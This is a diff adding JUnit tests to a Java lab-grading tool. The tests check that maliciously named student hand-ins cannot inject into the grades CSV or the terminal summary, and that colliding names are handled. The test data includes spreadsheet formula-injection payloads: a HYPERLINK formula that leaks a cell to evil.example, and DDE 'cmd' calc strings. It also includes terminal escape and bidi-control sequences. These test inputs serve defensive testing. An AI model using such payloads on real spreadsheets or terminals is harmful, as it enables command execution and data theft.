@@ -12,6 +12,7 @@ import java.nio.file.Path;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -182,5 +183,145 @@ class InstructorViewTest {
     List<String> names = new ArrayList<>();
     node.fieldNames().forEachRemaining(names::add);
     return names;
+  }
+
+  // ---- a batch: hand-ins' names -------------------------------------------------------------
+
+  /** {@code ntplab grade --submissions handins --lab N --out grades}. */
+  private CliRun batch(Path handins, int lab) {
+    return CliRun.of(
+        "grade",
+        "--submissions",
+        handins.toString(),
+        "--lab",
+        Integer.toString(lab),
+        "--out",
+        dir.resolve("grades").toString(),
+        "--jobs",
+        "2");
+  }
+
+  /** grades.csv's cells, row by row, read as RFC 4180 (and a spreadsheet) reads them. */
+  private List<List<String>> csv() throws IOException {
+    String text = Files.readString(dir.resolve("grades/grades.csv"));
+    List<List<String>> rows = new ArrayList<>();
+    List<String> row = new ArrayList<>();
+    StringBuilder cell = new StringBuilder();
+    boolean quoted = false;
+    for (int i = 0; i < text.length(); i++) {
+      char c = text.charAt(i);
+      if (quoted) {
+        if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
+          cell.append('"');
+          i++;
+        } else if (c == '"') {
+          quoted = false;
+        } else {
+          cell.append(c);
+        }
+      } else if (c == '"') {
+        quoted = true;
+      } else if (c == ',') {
+        row.add(cell.toString());
+        cell.setLength(0);
+      } else if (c == '\n') {
+        row.add(cell.toString());
+        cell.setLength(0);
+        rows.add(row);
+        row = new ArrayList<>();
+      } else {
+        cell.append(c);
+      }
+    }
+    return rows;
+  }
+
+  /**
+   * Hand-ins named as formulas (a spreadsheet would run them), with commas, quotes and line breaks
+   * (to add a cell or a row), and with terminal controls (to redraw the summary as another's
+   * grade): each is one row whose first cell is text, and the terminal shows each name on its line.
+   */
+  @Test
+  void aHandInsNameIsOneCellOfTextAndOneLineOnTheTerminal() throws Exception {
+    Path handins = Files.createDirectories(dir.resolve("handins"));
+    Map<String, String> names =
+        Map.of(
+            "=HYPERLINK(\"https:evil.example?\"&A1,\"grade\")",
+            "'=HYPERLINK(\"https:evil.example?\"&A1,\"grade\")",
+            "+cmd|' -C calc'!A0",
+            "'+cmd|' -C calc'!A0",
+            "@SUM(1+1)*cmd|' -C calc'!A0",
+            "'@SUM(1+1)*cmd|' -C calc'!A0",
+            "-2+3+cmd|' -C calc'!A0",
+            "'-2+3+cmd|' -C calc'!A0",
+            "a,30,30,30\nmallory",
+            "a,30,30,30\\nmallory",
+            "carol\r\u001b[2Kalice  30 of 30\u202e",
+            "carol\\r\\x1b[2Kalice  30 of 30\\u202e");
+    for (String name : names.keySet()) {
+      labs(Path.of("labs"), handins.resolve(name), Map.of());
+    }
+    CliRun run = batch(handins, 1);
+    assertEquals(0, run.exitCode(), run.out() + run.err());
+    assertEquals(List.of(), controls(run.out() + run.err()), run.out() + run.err());
+    List<List<String>> rows = csv();
+    assertEquals(names.size() + 1, rows.size(), rows.toString());
+    List<String> cells = new ArrayList<>();
+    for (List<String> row : rows.subList(1, rows.size())) {
+      assertEquals(rows.get(0).size(), row.size(), row.toString());
+      assertEquals("0", row.get(1), row.toString());
+      cells.add(row.get(0));
+    }
+    assertEquals(names.values().stream().sorted().toList(), cells.stream().sorted().toList());
+    // The summary: a heading and one line per hand-in, then where the grades went.
+    List<String> summary = run.out().lines().toList();
+    assertEquals(names.size() + 2, summary.size(), run.out());
+    JsonNode json = new ObjectMapper().readTree(dir.resolve("grades/grades.json").toFile());
+    assertEquals(names.size(), json.get("submissions").size(), json.toString());
+  }
+
+  /**
+   * A zip named after another student's folder, .zip and all ({@code a.zip.zip} beside a folder
+   * {@code a.zip}): both are graded, each under its own name, and neither's grade is the other's.
+   */
+  @Test
+  void aZipNamedAfterAnothersFolderIsGradedUnderItsOwnName() throws Exception {
+    Path handins = Files.createDirectories(dir.resolve("handins"));
+    labs(Path.of("solutions"), handins.resolve("a.zip"), Map.of());
+    Path stubs = labs(Path.of("labs"), dir.resolve("stubs"), Map.of());
+    try (var out =
+            new java.util.zip.ZipOutputStream(Files.newOutputStream(handins.resolve("a.zip.zip")));
+        Stream<Path> all = Files.walk(stubs)) {
+      for (Path p : all.filter(Files::isRegularFile).sorted().toList()) {
+        out.putNextEntry(new java.util.zip.ZipEntry("labs/" + stubs.relativize(p)));
+        Files.copy(p, out);
+        out.closeEntry();
+      }
+    }
+    CliRun run = batch(handins, 2);
+    assertEquals(0, run.exitCode(), run.out() + run.err());
+    List<List<String>> rows = csv();
+    assertEquals(3, rows.size(), rows.toString());
+    assertEquals(List.of("a.zip", "30"), rows.get(1).subList(0, 2), rows.toString());
+    assertEquals(List.of("a.zip.zip", "0"), rows.get(2).subList(0, 2), rows.toString());
+  }
+
+  /**
+   * Two hand-ins whose names differ in case or Unicode form alone: one reader sees them as one
+   * name, and a file system may write one's work and feedback over the other's. The batch is
+   * refused before grading, naming both.
+   */
+  @Test
+  void handInsNamedAlikeButForCaseOrUnicodeFormAreRefused() throws Exception {
+    for (List<String> twins : List.of(List.of("Jos\u00e9", "Jose\u0301"), List.of("Bob", "bob"))) {
+      Path handins = Files.createDirectories(dir.resolve("handins-" + twins.get(1)));
+      for (String name : twins) {
+        labs(Path.of("labs"), handins.resolve(name), Map.of());
+      }
+      CliRun run = batch(handins, 1);
+      assertEquals(2, run.exitCode(), run.out() + run.err());
+      assertTrue(run.err().contains("would both be graded as"), run.err());
+      assertFalse(Files.exists(dir.resolve("grades/grades.csv")));
+    }
   }
 }
